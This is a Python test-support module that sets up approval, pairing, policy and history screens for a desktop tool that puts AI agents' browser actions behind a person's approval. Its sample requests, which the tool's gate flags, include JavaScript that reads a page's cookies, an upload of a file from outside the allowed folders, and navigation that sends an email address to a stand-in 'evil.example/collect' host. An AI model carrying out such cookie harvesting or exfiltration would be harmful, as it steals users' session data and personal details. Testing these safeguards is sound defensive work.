"""The states of the window in which the person is asked, or is about to set something up."""

from __future__ import annotations

import contextlib
from pathlib import Path
from typing import Any

from PySide6.QtWidgets import QWidget

from kapture_panel.core.basics import tasks
from kapture_panel.core.basics.errors import KaptureError
from kapture_panel.core.doctor import CHAIN, Check
from kapture_panel.core.gates.approvals import Scene
from kapture_panel.core.gates.rules import Rule
from kapture_panel.installing.plans import Plan
from kapture_panel.window.shell.main_window import MainWindow
from tests.support.window.contents import fill, fill_shop
from tests.support.window.fakes import Instance, ok, png
from tests.support.window.history import choose, put
from tests.support.window.qt_loop import settle, until

RULES = (
    Rule("allow", "claude-code", "/usr/bin/claude", "shop.example", "execute"),
    Rule("careful", "claude-code", "/usr/bin/claude"),
    Rule("read-only", site="bank.example"),
)


async def approvals(window: MainWindow, instance: Instance) -> QWidget:
    """An agent asks for something."""
    agent = instance.add_agent("claude-code")

    async def asking() -> None:
        try:
            await instance.router.gates.approvals.ask(
                agent, instance.catalogue.get("connect_tab"), {"browserTabId": 7},
                site="shop.example", where="Cart – https://shop.example/?q=1", timeout_s=20,
                scene=Scene(is_managed=False),
            )  # fmt: skip
        except KaptureError:
            return  # the window went with the question

    tasks.spawn(asking(), "ask")
    await until(
        lambda: window.rooms.agents.approvals.card is not None and window.rooms.agents.approvals.card.allow.isEnabled(),
        "the card",
    )
    return window


async def at_work(window: MainWindow, instance: Instance) -> QWidget:
    """The person wants to quit while an agent is at work."""
    fill(instance)
    agent = instance.add_agent("claude-code")
    agent.running, agent.current_tab = 1, "t1"
    instance.clients.changed.emit(agent)
    await until(window.rooms.agents.activity.at_work, "the agent at work")
    window.ask_to_quit()
    assert window.rooms.agents.at_work.isVisible()
    return window.rooms.agents.at_work


async def forget(window: MainWindow, instance: Instance) -> QWidget:
    """What would be forgotten, before it is."""
    fill(instance)
    put(instance, "click", state="running")
    window.shell.actions["forget_everything"].trigger()
    assert window.rooms.history.forget.isVisible()
    return window.rooms.history.forget


async def pairing(window: MainWindow, instance: Instance) -> QWidget:
    """A browser wants to be paired."""
    fill(instance)
    instance.pairing.show(instance.pairing.begin("one", "Chrome 156"), "123456")
    await until(
        lambda: window.rooms.browsers.pairing.card is not None and window.rooms.browsers.pairing.card.pair.isEnabled(),
        "the card",
    )
    return window


async def pairing_expired(window: MainWindow, instance: Instance) -> QWidget:
    """Nobody compared the codes."""
    instance.pairing.expiry_s = 0.0
    instance.pairing.show(instance.pairing.begin("one", "Chrome 156"), "123456")
    await until(
        lambda: (
            window.rooms.browsers.pairing.card is not None
            and window.rooms.browsers.pairing.card.close_button.isVisible()
        ),
        "the end",
    )
    return window


async def own_browser(window: MainWindow, _instance: Instance) -> QWidget:
    """The guide to the person's own browser."""
    window.rooms.browsers.show_browser_setup()
    return window


async def change_offered(window: MainWindow, _instance: Instance) -> QWidget:
    """A change of a client's file, before it is made."""
    window.rooms.welcome.show()
    before = b'{\n  "mcpServers": {}\n}\n'
    after = b'{\n  "mcpServers": { "kapture": { "command": "kapture", "args": ["mcp"] } }\n}\n'
    setup = window.rooms.agents.setup
    setup.choose("Cursor")
    plan = Plan(Path("home/.cursor/mcp.json"), before, after, adds=True, client=setup.client)
    setup.offer("Add to Cursor", plan)
    assert setup.card.apply.isVisible()
    return window


async def change_made(window: MainWindow, instance: Instance) -> QWidget:
    """What came of it."""
    await change_offered(window, instance)
    window.rooms.agents.setup.tell("Cursor: done", "Start Cursor again.\nChanged: home/.cursor/mcp.json")
    assert not window.rooms.agents.setup.card.apply.isVisible()
    return window


async def unconnected(window: MainWindow, instance: Instance) -> QWidget:
    """Tabs of the person's browser that are not connected, listed at their wish."""
    fill_shop(instance)
    instance.paired.add("one", "ab" * 32, "Google Chrome 156")
    instance.paired.see("one", is_here=True)
    hosts = ("mail.example", "calendar.example", "a-news-site-with-a-long-name.example")
    listed = [{"browserTabId": at, "connected": False, "host": host} for at, host in enumerate(hosts)]
    instance.executor.answers["list_browser_tabs"] = ok({"tabs": listed})
    window.shell.toasts.clear()
    await settle()
    window.rooms.tabs.view.unconnected.choose.click()
    await until(window.rooms.tabs.view.unconnected.list.isVisible, "the tabs that are not connected")
    return window


async def examined(window: MainWindow, instance: Instance) -> QWidget:
    """The status line says what the doctor found last."""
    fill_shop(instance)
    instance.checks = [Check(link, "ok", "holds", ms=1.0) for link in CHAIN]
    window.rooms.doctor.view.open()
    await until(lambda: window.rooms.doctor.button.text() == f"Doctor: all {len(CHAIN)} links fine", "the doctor")
    window.rooms.doctor.view.dismiss()
    return window


async def approval_with_scopes(window: MainWindow, instance: Instance) -> QWidget:
    """An agent asks for something that may be allowed for longer."""
    agent = instance.add_agent("claude-code")
    agent.parent, agent.program = "claude", "/usr/bin/claude"

    async def asking() -> None:
        with contextlib.suppress(KaptureError):  # the window went with the question
            await instance.router.gates.approvals.ask(
                agent, instance.catalogue.get("navigate"), {"url": "https://evil.example/?mail=a%40b.c"},
                site="evil.example", where="Cart – https://shop.example/?q=1", timeout_s=20,
                why="leaves shop.example for evil.example", permission="navigate", scopes=("once", "session", "always"),
                picture=png(200, 60), scene=Scene(pages=("https://shop.example/?q=1",)),
            )  # fmt: skip

    tasks.spawn(asking(), "ask")
    await until(lambda: (card := window.rooms.agents.approvals.card) is not None and card.allow.isEnabled(), "the card")
    await until(
        lambda: (card := window.rooms.agents.approvals.card) is not None and card.text.has_picture, "the picture"
    )
    return window


CODE = """// every cookie of the page
const found = document.cookie.split("; ").map((one) => one.split("="));
return found.filter(([name]) => name !== "theme").slice(0, 20);"""


async def questions(window: MainWindow, instance: Instance) -> QWidget:
    """Three questions wait: code, a file, a page; the first is open with its details."""
    fill(instance)
    agent = instance.add_agent("claude-code")
    agent.parent, agent.program = "claude", "/usr/bin/claude"
    invoice = instance.folder / "invoice.pdf"
    invoice.write_bytes(b"x" * 12_345)
    wanted: tuple[tuple[str, dict[str, Any], str, str], ...] = (
        ("evaluate", {"code": CODE}, "runs code, which can read and change everything on this page", "execute"),
        ("upload_file", {"paths": [str(invoice)], "selector": "#file"},
         f"gives {invoice} to the page; it is outside the folders agents may read", f"file {invoice.parent}"),
        ("navigate", {"url": "https://evil.example/collect?mail=a%40b.c"}, "leaves shop.example for evil.example",
         "navigate"),
    )  # fmt: skip
    tab = instance.tabs.get("t1")

    async def asking(name: str, params: dict[str, Any], why: str, permission: str) -> None:
        with contextlib.suppress(KaptureError):  # the window went with the question
            await instance.router.gates.approvals.ask(
                agent, instance.catalogue.get(name), params, site="shop.example", where=f"{tab.title} – {tab.url}",
                timeout_s=20, why=why, permission=permission,
                scopes=("once", "session") if name == "upload_file" else ("once", "session", "always"),
                scene=Scene(tab, (tab.url,), tab.managed),
            )  # fmt: skip

    for one in wanted:
        tasks.spawn(asking(*one), "ask")
    window.shell.toasts.clear()
    await until(lambda: (card := window.rooms.agents.approvals.card) is not None and card.allow.isEnabled(), "the card")
    assert len(window.rooms.agents.approvals.asks) == len(wanted)
    return window


async def question_details(window: MainWindow, instance: Instance) -> QWidget:
    """All that is known of the second question."""
    await questions(window, instance)
    view = window.rooms.agents.approvals
    view.list.setCurrentIndex(view.list.model().index(1, 0))
    assert view.card is not None
    view.card.more.setChecked(True)
    await until(lambda: (card := view.card) is not None and card.allow.isEnabled(), "the card")
    return window


async def question_reason(window: MainWindow, instance: Instance) -> QWidget:
    """The place of a reason is open."""
    await questions(window, instance)
    view = window.rooms.agents.approvals
    assert view.card is not None
    view.card.because.click()
    return window


async def approval_outdated(window: MainWindow, instance: Instance) -> QWidget:
    """The page was left before the person answered."""
    await questions(window, instance)
    instance.tabs.update(instance.tabs.get("t1"), url="https://other.example/")
    await until(lambda: (card := window.rooms.agents.approvals.card) is not None and not card.is_open, "the end")
    return window


async def approval_expired(window: MainWindow, instance: Instance) -> QWidget:
    """Nobody answered an agent in time."""
    instance.router.gates.approvals.expiry_s = 0.0
    await approvals_asked(instance)
    await until(lambda: (card := window.rooms.agents.approvals.card) is not None and not card.is_open, "the end")
    return window


async def approvals_asked(instance: Instance) -> None:
    """Ask, and wait for the answer whatever it is."""
    with contextlib.suppress(KaptureError):
        await instance.router.gates.approvals.ask(
            instance.add_agent("claude-code"), instance.catalogue.get("connect_tab"), {"browserTabId": 7},
            site="shop.example", where="Cart – https://shop.example/?q=1", timeout_s=20,
            scene=Scene(is_managed=False),
        )  # fmt: skip


async def policy(window: MainWindow, instance: Instance) -> QWidget:
    """What agents may do, with rules, one of them chosen."""
    policy = instance.router.gates.policy
    policy.allow_dirs = (Path("/srv/shared"),)
    policy.rules.set_folders(
        [Path("/home/me/invoices"), Path("/home/me/a-folder-with-a-long-name/pictures/for/the/shop")]
    )
    for rule in (*RULES, Rule("ask", site="shop.example", command="upload_file")):
        policy.rules.put(rule)
    client = instance.clients.agents()[0] if instance.clients.agents() else instance.add_agent()
    client.granted.add(("bank.example", "secret"))
    window.rooms.agents.policy.open()
    window.rooms.agents.policy.list.setCurrentIndex(window.rooms.agents.policy.list.model().index(0, 0))
    assert window.rooms.agents.policy.chosen is not None
    return window.rooms.agents.policy


async def browsers(window: MainWindow, instance: Instance) -> QWidget:
    """Paired browsers, and the question before one of them is taken off."""
    instance.paired.add("one", "ab" * 32, "Google Chrome 156")
    instance.paired.add("two", "cd" * 32, "Microsoft Edge 156")
    instance.paired.see("two", is_here=True)
    window.shell.toasts.clear()
    window.rooms.browsers.view.open()
    window.rooms.browsers.view.unpair.click()
    assert window.rooms.browsers.view.yes.isVisible()
    return window.rooms.browsers.view


async def history_question(window: MainWindow, instance: Instance) -> QWidget:
    """A row with its details, and the question before it is run again."""
    fill(instance)
    await choose(window)
    await settle()  # a person asks in a window that stands there
    window.rooms.history.view.ask_to_run(next(row for row in instance.history.rows() if row.command == "click"))
    await until(window.rooms.history.view.question.isVisible, "the question")
    return window


async def template_dialog(window: MainWindow, instance: Instance) -> QWidget:
    """What a template is to be called."""
    fill(instance)
    window.rooms.command.view.list.choose("kapturemcp_fill")
    window.rooms.command.view.params.fill({"selector": "#a", "value": "secret"})
    dialog = window.rooms.command.view.save_template()
    assert dialog is not None
    return dialog
